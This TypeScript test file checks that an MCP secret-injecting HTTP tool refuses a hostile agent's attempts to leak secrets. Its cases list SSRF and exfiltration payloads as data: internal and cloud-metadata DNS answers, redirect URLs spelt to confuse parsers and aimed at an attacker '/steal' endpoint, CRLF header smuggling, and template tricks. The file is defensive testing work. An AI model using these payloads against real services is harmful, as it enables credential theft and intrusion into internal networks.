// More ways a hostile agent tries to move a secret (or any request) somewhere it must not go:
// bindings that are not an admin's opt-in, DNS answers pointing inside, redirect Locations spelt
// to confuse a URL parser, header smuggling, template tricks. Real server over MCP; each case asserts
// the agent saw no spelling of a value and the attacker's stub got no request and no connection.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { tempHome, type TempHome } from '../helpers/cli.js';
import { connectStdio, visible, type StdioSession } from '../helpers/mcp.js';
import { startStub, type Stub } from '../helpers/stub.js';
import { expectAgentSawNothing, expectNoValueAtRest, expectUntouched, setSecret, startAttacker } from '../helpers/adversarial.js';

const KEY = 'k3y+Val/ue="q&<x> ü-Pp0Oo9Ii8';
const BARE = 'bare-name+Bd/7="é&<y> Kk2Jj3';
const MULTI = 'multi-line-Aa1Bb2\r\nX-Injected: yes';
const VALUES = [KEY, BARE, MULTI];

let t: TempHome;
let api: Stub;
let attacker: Stub;
let session: StdioSession;

const call = (args: Record<string, unknown>) => session.call('http_request', { method: 'GET', ...args });
const bearer = { Authorization: 'Bearer <secrets.KEY>' };
const status = (r: { structuredContent?: unknown }) => (r.structuredContent as { status?: number } | undefined)?.status;

beforeAll(async () => {
  api = await startStub();
  attacker = await startAttacker();
  t = tempHome();
  await setSecret(t, 'KEY', KEY, '--host', api.origin, '--placement', 'header', '--placement', 'query', '--placement', 'body', '--placement', 'path');
  // A bare name (no explicit scheme, not an address): SPEC §3 / README make only an explicit scheme
  // or a private address the admin's opt-in to special addresses, so this is no opt-in.
  await setSecret(t, 'BARE', BARE, '--host', `bare.test:${attacker.port}`);
  await setSecret(t, 'MULTI', MULTI, '--host', api.origin, '--placement', 'header', '--placement', 'body');
  session = await connectStdio(t.env, [
    '--resolve', 'bare.test=127.0.0.1',
    '--resolve', 'zero.test=0.0.0.0',
    '--resolve', 'any6.test=::',
    '--resolve', 'meta6.test=::ffff:169.254.169.254',
    '--resolve', 'ula.test=fd00::1',
    '--resolve', 'cgnat.test=100.64.0.1',
    '--resolve', 'nat64.test=64:ff9b::7f00:1',
    '--resolve', 'private-last.test=93.184.216.34,8.8.8.8,10.0.0.1',
  ]);
});

beforeEach(() => {
  api.reset();
  attacker.reset();
});

afterAll(async () => {
  await session?.close();
  await api?.close();
  await attacker?.close();
  expectNoValueAtRest(t, [session], VALUES);
  t.cleanup();
});

describe('DNS answers pointing inside are refused at connect time', () => {
  it.each(['zero.test', 'any6.test', 'meta6.test', 'ula.test', 'cgnat.test', 'nat64.test', 'private-last.test'])('%s, secret-free', async (host) => {
    const r = await call({ url: `http://${host}:${attacker.port}/echo` });
    expect(r.isError, visible(r)).toBe(true);
    expect(visible(r)).toContain('ADDRESS_NOT_ALLOWED');
    expectUntouched(attacker);
  });

  it('a bare-name binding is no opt-in: its name resolving to 127.0.0.1 is refused, secret-free', async () => {
    const r = await call({ url: `https://bare.test:${attacker.port}/` });
    expect(r.isError, visible(r)).toBe(true);
    expectUntouched(attacker);
    expect(visible(r)).toContain('ADDRESS_NOT_ALLOWED');
  });

  it('a bare-name binding is no opt-in: the secret is not sent to the loopback answer', async () => {
    const r = await call({ url: `https://bare.test:${attacker.port}/`, headers: { Authorization: 'Bearer <secrets.BARE>' } });
    expectAgentSawNothing(r, VALUES, { error: 'ADDRESS_NOT_ALLOWED' });
    expectUntouched(attacker);
  });
});

describe('redirect Locations spelt to confuse a URL parser never reach the attacker', () => {
  const A = () => attacker.port;
  const locations: Array<[string, () => string]> = [
    ['protocol-relative', () => `//localhost:${A()}/steal`],
    ['backslash authority', () => `/\\localhost:${A()}/steal`],
    ['backslashes only', () => `\\\\127.0.0.1:${A()}\\steal`],
    ['tab inside the host', () => `http://local\thost:${A()}/steal`],
    ['IPv6 loopback', () => `http://[::1]:${A()}/steal`],
    ['IPv4-mapped IPv6', () => `http://[::ffff:127.0.0.1]:${A()}/steal`],
    ['decimal address', () => `http://2130706433:${A()}/steal`],
    ['userinfo that looks like the API', () => `http://127.0.0.1:${api.port}@localhost:${A()}/steal`],
    ['https to the same host and port', () => `https://127.0.0.1:${api.port}/echo`],
    ['0.0.0.0', () => `http://0.0.0.0:${A()}/steal`],
  ];
  for (const [label, to] of locations) {
    for (const [code, method] of [[302, 'GET'], [307, 'POST'], [308, 'POST']] as const) {
      it(`${code} ${method} with a secret: ${label}`, async () => {
        const r = await call({ method, url: `${api.url}/redirect?status=${code}&to=${encodeURIComponent(to())}`, headers: bearer, ...(method === 'POST' ? { body: 'k=<secrets.KEY>' } : {}) });
        // Returned unfollowed: every one of these spellings leads to another origin.
        expectAgentSawNothing(r, VALUES, { redacted: [] });
        expect(status(r)).toBe(code);
        expect((r.structuredContent as { redirectNotFollowed?: string }).redirectNotFollowed).toContain('another origin');
        expect(api.requests).toHaveLength(1);
        expectUntouched(attacker);
      });
    }
    it(`302 secret-free: ${label}`, async () => {
      const r = await call({ url: `${api.url}/redirect?status=302&to=${encodeURIComponent(to())}` });
      // Without a secret the hop may go to another origin, but none of these addresses is public.
      expect(r.isError, visible(r)).toBe(true);
      expect(visible(r)).toContain('ADDRESS_NOT_ALLOWED');
      expectUntouched(attacker);
    });
  }

  it('a chain: same-origin hop, then a hop to the attacker, carries nothing there', async () => {
    const last = `http://localhost:${attacker.port}/steal`;
    const mid = `/redirect?status=307&to=${encodeURIComponent(last)}`;
    const r = await call({ method: 'POST', url: `${api.url}/redirect?status=308&to=${encodeURIComponent(mid)}`, headers: bearer, body: '<secrets.KEY>' });
    expect(api.requests.map((q) => q.body)).toEqual([KEY, KEY]);
    expect((r.structuredContent as { redirects: number }).redirects).toBe(1);
    expectAgentSawNothing(r, VALUES, { redacted: [] });
    expectUntouched(attacker);
  });

  it('an endless redirect loop is refused (REDIRECT_LIMIT) after 5 hops', async () => {
    // 5 is the README's promise, written out: a test importing MAX_REDIRECTS would follow a change to it.
    const hops = 5;
    const r = await call({ url: `${api.url}/loop`, headers: bearer });
    expect(r.isError, visible(r)).toBe(true);
    expect(api.requests.map((q) => q.url)).toEqual(['/loop', ...Array.from({ length: hops }, (_, i) => `/loop?n=${i + 1}`)]);
    expectAgentSawNothing(r, VALUES, { error: 'REDIRECT_LIMIT' });
    expectUntouched(attacker);
  });
});

describe('header smuggling is refused before anything is sent', () => {
  it.each<[string, string, Record<string, string>]>([
    ['lowercase host', 'HEADER_NOT_ALLOWED', { host: 'localhost' }],
    ['mixed-case Host', 'HEADER_NOT_ALLOWED', { hOsT: `localhost:${9}` }],
    ['Proxy-Connection', 'HEADER_NOT_ALLOWED', { 'Proxy-Connection': 'keep-alive' }],
    ['Proxy-Authenticate', 'HEADER_NOT_ALLOWED', { 'Proxy-Authenticate': 'Basic' }],
    ['Upgrade', 'HEADER_NOT_ALLOWED', { Upgrade: 'h2c' }],
    ['TE', 'HEADER_NOT_ALLOWED', { TE: 'trailers' }],
    ['Keep-Alive', 'HEADER_NOT_ALLOWED', { 'Keep-Alive': 'timeout=5' }],
    ['Expect', 'HEADER_NOT_ALLOWED', { Expect: '100-continue' }],
    ['Trailer', 'HEADER_NOT_ALLOWED', { Trailer: 'X-A' }],
    ['a pseudo-header', 'HEADER_NOT_ALLOWED', { ':authority': `localhost:${9}` }],
    ['a name with a space', 'HEADER_NOT_ALLOWED', { 'Host ': 'localhost' }],
    ['a secret in a header name', 'HEADER_NOT_ALLOWED', { 'X-<secrets.KEY>': 'v' }],
    // undici refuses a header character above U+00FF before writing anything.
    ['Latin-1 code points whose low bytes are CR LF (U+010D U+010A)', 'UPSTREAM_ERROR', { 'X-A': 'a\u010d\u010aX-Smuggled: yes <secrets.KEY>' }],
    ['NUL in a value', 'HEADER_NOT_ALLOWED', { 'X-A': 'a\u0000b <secrets.KEY>' }],
  ])('%s', async (_label, code, headers) => {
    const r = await call({ url: `${api.url}/echo`, headers: { ...headers, ...bearer } });
    expect(api.requests).toHaveLength(0);
    expectAgentSawNothing(r, VALUES, { error: code });
    expectUntouched(attacker);
  });

  it('a secret whose value holds CR LF is refused in a header; nothing sent', async () => {
    const r = await call({ url: `${api.url}/echo`, headers: { 'X-Token': '<secrets.MULTI>' } });
    expect(api.requests).toHaveLength(0);
    expectAgentSawNothing(r, VALUES, { error: 'HEADER_NOT_ALLOWED' });
  });

  it('CR LF in the path or a query value is percent-encoded, never a header', async () => {
    // Not MULTI's own second line: that is secret material, and sending it would trip the wire.
    const r = await call({ url: `${api.url}/echo/a%0d%0aX-Smuggled:%20yes?x=1`, query: { y: 'b\r\nX-Smuggled: yes' }, headers: bearer });
    expect(api.requests[0]!.headers['x-smuggled']).toBeUndefined();
    expectAgentSawNothing(r, VALUES, { redacted: [] }); // a 404: nothing echoed
  });
});

describe('template tricks', () => {
  it.each<[string, string, () => string]>([
    ['secret glued to the port', 'PLACEMENT_NOT_ALLOWED', () => `http://127.0.0.1:${api.port}<secrets.KEY>/`],
    ['secret in an IPv6 literal', 'PLACEMENT_NOT_ALLOWED', () => 'http://[<secrets.KEY>]/'],
    ['escaped opener in the host', 'PLACEMENT_NOT_ALLOWED', () => `http://<<secrets.KEY>.x:${api.port}/`],
    ['scheme-relative URL', 'PLACEMENT_NOT_ALLOWED', () => `//127.0.0.1:${api.port}/<secrets.KEY>`],
    ['backslash scheme separator', 'PLACEMENT_NOT_ALLOWED', () => `http:\\\\127.0.0.1:${api.port}\\<secrets.KEY>`],
    ['lowercase name', 'SECRET_NOT_FOUND', () => `${api.url}/echo?k=<secrets.key>`],
    ['whitespace in the expression', 'TEMPLATE_SYNTAX', () => `${api.url}/echo?k=<secrets.KEY >`],
    ['nested expression', 'TEMPLATE_SYNTAX', () => `${api.url}/echo?k=<secrets.<secrets.KEY>>`],
    ['a property of a secret', 'TEMPLATE_SYNTAX', () => `${api.url}/echo?k=<secrets.KEY.length>`],
    ['an inputs expression', 'BAD_INPUT', () => `${api.url}/echo?k=<inputs.KEY>`],
    ['a steps expression', 'TEMPLATE_SYNTAX', () => `${api.url}/echo?k=<steps.a.KEY>`],
  ])('%s is refused, nothing sent', async (_label, code, url) => {
    const r = await call({ url: url() });
    expect(api.requests).toHaveLength(0);
    expectAgentSawNothing(r, VALUES, { error: code });
    expectUntouched(attacker);
  });

  it('a backslash ends the authority as WHATWG says: "\\@<secret>" is path, on the bound origin', async () => {
    const r = await call({ url: `http://127.0.0.1:${api.port}\\@<secrets.KEY>/` });
    expect(api.requests[0]!.url).toBe(`/@${encodeURIComponent(KEY)}/`);
    expectAgentSawNothing(r, VALUES, { redacted: [] }); // a 404: nothing echoed
    expectUntouched(attacker);
  });

  it('a percent-encoded expression is literal text, not a secret', async () => {
    const r = await call({ url: `${api.url}/echo?k=%3Csecrets.KEY%3E`, headers: bearer });
    expect(api.requests[0]!.url).toContain('%3Csecrets.KEY%3E');
    expectAgentSawNothing(r, VALUES, { redacted: ['KEY'] });
  });

  it('<< writes a literal "<secrets.KEY>", not the value', async () => {
    const r = await call({ method: 'POST', url: `${api.url}/echo`, body: '<<secrets.KEY>' });
    expect(r.isError, visible(r)).toBeFalsy();
    expect(api.requests[0]!.body).toBe('<secrets.KEY>');
  });

  it('a path value with "/", "?" and "#" stays in one path segment on the bound origin', async () => {
    const r = await call({ url: `${api.url}/echo/<secrets.KEY>/tail` });
    expect(api.requests[0]!.url).toBe(`/echo/${encodeURIComponent(KEY)}/tail`);
    expectAgentSawNothing(r, VALUES, { redacted: [] }); // a 404: nothing echoed
    expectUntouched(attacker);
  });

  it('a secret bound to the API is refused on the attacker even in the body only', async () => {
    const r = await call({ method: 'PUT', url: `http://127.0.0.1:${attacker.port}/`, json: { k: '<secrets.KEY>' } });
    expectAgentSawNothing(r, VALUES, { error: 'HOST_NOT_ALLOWED' });
    expectUntouched(attacker);
  });
});
